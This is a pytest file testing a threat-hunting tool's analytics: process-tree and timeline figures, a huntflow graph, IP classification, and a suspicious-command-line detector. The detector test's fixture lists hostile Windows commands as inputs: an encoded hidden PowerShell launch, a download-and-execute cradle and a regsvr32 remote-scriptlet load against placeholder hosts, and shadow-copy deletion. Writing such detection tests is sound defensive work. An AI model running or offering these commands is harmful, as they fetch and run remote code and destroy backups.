"""The built-in analytics on the demo data: the figures' nodes, edges and points are read
back from the plotly JSON and compared with what the bundle says (plain json) or what
the huntflow's statements say; enrichments against hand-labelled values."""

import collections
import json
from datetime import datetime

import pytest
from figdata import graph_of, ident, processes, traces, tree_of

from kestrel.analytics.enrich import classify_ip
from kestrel.results import Figure

SHELLS = "name IN ('cmd.exe', 'powershell.exe')"


def is_shell(obs, proc):
    return proc.get("name") in ("cmd.exe", "powershell.exe")


def when(text):
    text = text.replace(" ", "T")
    return datetime.fromisoformat(text if text.endswith("Z") else text + "Z")


@pytest.fixture
def hunt(session, bundle_path):
    session.execute(f"procs = GET process FROM '{bundle_path}' WHERE {SHELLS}")
    session.execute("parents = FIND process CREATED procs")
    return session


def parents_of(pairs):
    return [(o, o["objects"][p["parent_ref"]]) for o, p in pairs if "parent_ref" in p]


# ------------------------------------------------------------ process tree


def test_process_tree_merged(hunt, observations):
    shells = processes(observations, is_shell)
    parents = parents_of(shells)
    (fig,) = hunt.execute("APPLY python://process_tree ON procs")
    nodes, edges = tree_of(fig.figure)
    assert set(nodes) == {ident(p) for _, p in shells + parents}
    assert edges == {(ident(o["objects"][p["parent_ref"]]), ident(p))
                     for o, p in shells if "parent_ref" in p}
    lines = collections.defaultdict(set)
    entities = collections.Counter(ident(p) for _, p in shells + parents)
    for _, p in shells + parents:
        if p.get("command_line"):
            lines[ident(p)].add(p["command_line"])
    shell_ids = {ident(p) for _, p in shells}
    for node, (group, commands, variables, merged) in nodes.items():
        assert commands == lines[node]
        assert merged == entities[node]
        assert (group, variables) == (("procs", ["procs"]) if node in shell_ids
                                      else ("parents outside procs", []))
    # the hover text holds pid, name and command lines
    (drawn,) = [t for t in traces(fig.figure, "nodes") if t["name"] == "procs"]
    for text, data in zip(drawn["hovertext"], drawn["customdata"]):
        assert f"pid: {data[1]}" in text and f"name: {data[2]}" in text
        assert "command line: " + data[3][0][:40].replace("<", "&lt;") in text.replace("<br>", "")
    # the same in words, and in to_dict()
    assert fig.lines[0] == (f"{len(nodes)} processes ({len(nodes) - len(shell_ids)} outside "
                            f"procs), {len(edges)} parent-child links")
    assert fig.to_dict()["data"]["edges"] and fig.to_dict()["kind"] == "figure"


def test_process_tree_of_entities_over_two_variables(hunt, observations):
    shells = processes(observations, is_shell)
    parents = parents_of(shells)
    (fig,) = hunt.execute("APPLY python://process_tree ON procs, parents WITH merge=false, "
                          "title='shells and parents'")
    nodes, edges, _ = graph_of(fig.figure)
    assert fig.figure["layout"]["title"]["text"] == "shells and parents"
    drawn = collections.Counter((d[0], d[1]) for _, d in nodes.values())
    assert drawn == collections.Counter(ident(p) for _, p in shells + parents)
    named = {k: (d[0], d[1]) for k, (_, d) in nodes.items()}
    assert collections.Counter((named[a], named[b]) for a, b in edges) == collections.Counter(
        (ident(q), ident(p)) for (o, p), (_, q) in zip(
            [s for s in shells if "parent_ref" in s[1]], parents))
    groups = collections.Counter(group for group, _ in nodes.values())
    assert groups == {"procs": len(shells), "parents": len(parents)}


# ------------------------------------------------------------ timeline


def test_timeline_by_attribute(hunt, observations):
    shells = processes(observations, is_shell)
    parents = parents_of(shells)
    (fig,) = hunt.execute("APPLY python://timeline ON procs, parents WITH per=name")
    points = collections.Counter(
        (t["meta"]["variable"], y, when(x)) for t in traces(fig.figure, "points")
        for x, y in zip(t["x"], t["y"]))
    expected = collections.Counter(
        [("procs", p["name"], when(o["first_observed"])) for o, p in shells]
        + [("parents", p["name"] or "?", when(o["first_observed"])) for o, p in parents])
    assert points == expected
    rows = fig.figure["layout"]["yaxis"]["categoryarray"]
    assert sorted(rows) == sorted({label for _, label, _ in expected})
    earliest = min(p[2] for p in expected)
    assert rows[0] in {label for _, label, t in expected if t == earliest}  # earliest on top
    assert fig.lines[0].startswith(f"{len(shells) + len(parents)} records in {len(rows)} rows")


def test_timeline_of_traffic(session, bundle_path, observations):
    session.execute(f"conns = GET network-traffic FROM '{bundle_path}' WHERE dst_port = 443")
    (fig,) = session.execute("APPLY python://timeline ON conns")
    (points,) = traces(fig.figure, "points")
    conns = [(o, t) for o in observations for t in o["objects"].values()
             if t["type"] == "network-traffic" and t.get("dst_port") == 443]
    assert collections.Counter(zip(points["y"], map(when, points["x"]))) == collections.Counter(
        (f"{t['src_port']} -> {t['dst_port']}", when(o["first_observed"])) for o, t in conns)


def test_timeline_unknown_attribute(hunt):
    from kestrel.errors import AnalyticsError
    with pytest.raises(AnalyticsError) as err:
        hunt.execute("APPLY python://timeline ON procs WITH per=colour")
    assert err.value.message.startswith('python://timeline: procs has no attribute "colour" '
                                        "(attributes: binary_ref, command_line, created,")


# ------------------------------------------------------------ huntflow graph


HUNT = """procs = GET process FROM '{bundle}' WHERE name = 'cmd.exe'
parents = FIND process CREATED procs
both = procs + parents
procs = GET process FROM procs WHERE pid > 9000
same = GET process FROM '{bundle}' WHERE pid = parents.pid
names = GROUP both BY name
"""

# what the statements above say, written by hand: (from, to, label)
EDGES = {("source", "procs #1", "GET"), ("procs #1", "parents", "FIND"),
         ("procs #1", "both", "MERGE"), ("parents", "both", "MERGE"),
         ("procs #1", "procs", "GET"), ("source", "same", "GET"),
         ("parents", "same", "reference"), ("both", "names", "GROUP")}


def labelled(fig):
    nodes, edges, where = graph_of(fig.figure)
    label = {k: ("source" if d[0] == "source" else None) for k, (_, d) in nodes.items()}
    for trace in traces(fig.figure, "nodes"):
        for key, text in zip((c[0] for c in trace["customdata"]), trace["text"]):
            label[key] = label[key] or text
    texts = {(a["x"], a["y"]): a["text"] for a in fig.figure["layout"]["annotations"]
             if not a["showarrow"]}
    mid = {(a, b): ((where[a][0] + where[b][0]) / 2, (where[a][1] + where[b][1]) / 2)
           for a, b in edges}
    return nodes, label, {(label[a], label[b], texts[mid[(a, b)]]) for a, b in edges}, where


def test_huntflow_graph(session, bundle_path, observations):
    session.execute(HUNT.format(bundle=bundle_path))
    (fig,) = session.execute("APPLY python://huntflow_graph ON names WITH scope=all")
    nodes, label, edges, where = labelled(fig)
    assert sorted(label.values()) == ["both", "names", "parents", "procs", "procs #1", "same",
                                      "source"]
    assert edges == EDGES
    assert all(where[a][0] < where[b][0] for a, b in graph_of(fig.figure)[1])
    arrows = [a for a in fig.figure["layout"]["annotations"] if a["showarrow"]]
    assert len(arrows) == len(EDGES)

    # distinct entities, as summaries count them: a process of this bundle is its pid and name
    cmd = processes(observations, lambda o, p: p.get("name") == "cmd.exe")
    shells, parents = {ident(p) for _, p in cmd}, {ident(p) for _, p in parents_of(cmd)}
    entities = {label[k]: d[5] for k, (_, d) in nodes.items() if d[0] == "variable"}
    assert entities["procs #1"] == len(shells)
    assert entities["parents"] == len(parents)
    assert entities["both"] == len(shells | parents)
    assert entities["procs"] == len({(pid, name) for pid, name in shells if pid > 9000})
    groups = {label[k]: g for k, (g, _) in nodes.items()}
    assert groups["procs #1"] == "redefined since" and groups["procs"] == "process"
    statements = {label[k]: d[4] for k, (_, d) in nodes.items() if d[0] == "variable"}
    assert statements["parents"] == "parents = FIND process CREATED procs"

    # the lineage of names: what it was made from, nothing else
    (fig,) = session.execute("APPLY python://huntflow_graph ON names")
    _, label, edges, _ = labelled(fig)
    assert sorted(label.values()) == ["both", "names", "parents", "procs #1", "source"]
    assert edges == {e for e in EDGES if e[1] in ("procs #1", "parents", "both", "names")}

    # the same from Python
    whole = session.huntflow_graph()
    assert isinstance(whole, Figure)
    assert labelled(whole)[2] == EDGES
    assert labelled(session.huntflow_graph("names"))[2] == edges
    assert whole.lines[0] == "6 variable definitions, 1 data sources, 8 links"
    assert "procs #1: procs = GET process FROM" in whole.to_text()


# ------------------------------------------------------------ enrichments


@pytest.mark.parametrize("address, expected", [
    ("10.0.0.1", "private"), ("172.16.5.4", "private"), ("172.31.255.255", "private"),
    ("172.32.0.1", "public"), ("192.168.1.156", "private"), ("8.8.8.8", "public"),
    ("54.148.155.193", "public"), ("127.0.0.1", "loopback"), ("169.254.10.1", "link-local"),
    ("224.0.0.251", "multicast"), ("0.0.0.0", "reserved"), ("100.64.0.1", "reserved"),
    ("192.0.2.1", "reserved"), ("240.0.0.1", "reserved"), ("255.255.255.255", "reserved"),
    ("10.0.0.0/8", "private"), ("8.8.8.0/24", "public"),
    ("fd12:3456::1", "private"), ("2001:4860:4860::8888", "public"), ("::1", "loopback"),
    ("fe80::1", "link-local"), ("ff02::1", "multicast"), ("::", "reserved"),
    ("2001:db8::1", "reserved"), ("::ffff:10.0.0.1", "private"), ("::ffff:8.8.8.8", "public"),
    ("not an address", "invalid"), ("300.1.1.1", "invalid"),
])
def test_classify_ip(address, expected):
    assert classify_ip(address) == expected


def test_ip_class_on_traffic_and_addresses(session, bundle_path, observations):
    session.execute(f"conns = GET network-traffic FROM '{bundle_path}' WHERE dst_port = 443")
    session.execute('v6 = NEW ipv6-addr ["fe80::1", "2001:4860:4860::8888"]')
    table, done = session.execute("APPLY python://ip_class ON conns, v6")
    assert done.lines == ["conns: x_src_ip_class, x_dst_ip_class written to 17 entities",
                          "v6: x_ip_class written to 2 entities"]
    (rows,) = session.execute("DISP conns ATTR src_ref.value, x_src_ip_class, dst_ref.value, "
                              "x_dst_ip_class")
    for src, src_class, dst, dst_class in rows.dataframe.values.tolist():
        assert (classify_ip(src), classify_ip(dst)) == (src_class, dst_class)
    (rows,) = session.execute("DISP v6 ATTR value, x_ip_class SORT BY value")
    assert rows.dataframe.values.tolist() == [["2001:4860:4860::8888", "public"],
                                              ["fe80::1", "link-local"]]
    assert sorted(table.dataframe.query("variable == 'v6'")[["class", "entities"]]
                  .values.tolist()) == [["link-local", 1], ["public", 1]]


COMMANDS = [
    ("powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi",
     {"encoded-powershell", "hidden-window"}),
    ("powershell.exe", "powershell -ExecutionPolicy Bypass -c IEX (New-Object "
     "Net.WebClient).DownloadString('http://x/a.ps1')", {"download-cradle",
                                                         "execution-policy-bypass"}),
    ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", {"shadow-copy-deletion"}),
    ("regsvr32.exe", "regsvr32 /s /n /u /i:http://x/file.sct scrobj.dll", {"proxy-execution"}),
    ("whoami.exe", "whoami /all", {"discovery"}),
    ("WMIC.exe", "WMIC.exe process call create calc", {"wmic"}),
    ("notepad.exe", "notepad.exe report.txt", set()),
]


def test_suspicious_cmdline(session):
    objects = [{"type": "process", "name": n, "pid": i, "command_line": c}
               for i, (n, c, _) in enumerate(COMMANDS, 1)]
    objects.append({"type": "process", "name": "quiet.exe", "pid": 99})
    session.execute(f"procs = NEW {json.dumps(objects)}")
    table, done = session.execute("APPLY python://suspicious_cmdline ON procs")
    (rows,) = session.execute("DISP procs ATTR pid, x_suspicious_score, x_suspicious_patterns "
                              "SORT BY pid")
    got = {pid: (score, set(tags.split(", ") if isinstance(tags, str) else []))
           for pid, score, tags in rows.dataframe.values.tolist()}
    expected = {i: (len(tags), tags) for i, (_, _, tags) in enumerate(COMMANDS, 1)}
    assert {k: v for k, v in got.items() if k != 99} == expected
    assert got[99][1] == set() and got[99][0] != got[99][0]  # no command line: unset (NaN)
    assert sorted(table.dataframe["pid"]) == [i for i, (_, _, t) in enumerate(COMMANDS, 1) if t]
    tagged = session.execute("tagged = GET process FROM procs WHERE x_suspicious_score > 0")
    assert tagged[-1].entities == sum(bool(t) for _, _, t in COMMANDS)

    session.execute("APPLY python://suspicious_cmdline ON procs WITH patterns=['notepad']")
    (rows,) = session.execute("DISP procs ATTR pid, x_suspicious_patterns SORT BY pid")
    tags = [t if isinstance(t, str) else None for _, t in rows.dataframe.values.tolist()]
    assert tags == [None] * (len(COMMANDS) - 1) + ["notepad", None]
    session.execute("APPLY python://suspicious_cmdline ON procs WITH extra=['report\\.txt$']")
    (rows,) = session.execute("DISP procs ATTR pid, x_suspicious_patterns WHERE pid = 7")
    assert rows.dataframe.values.tolist() == [[7, "report\\.txt$"]]
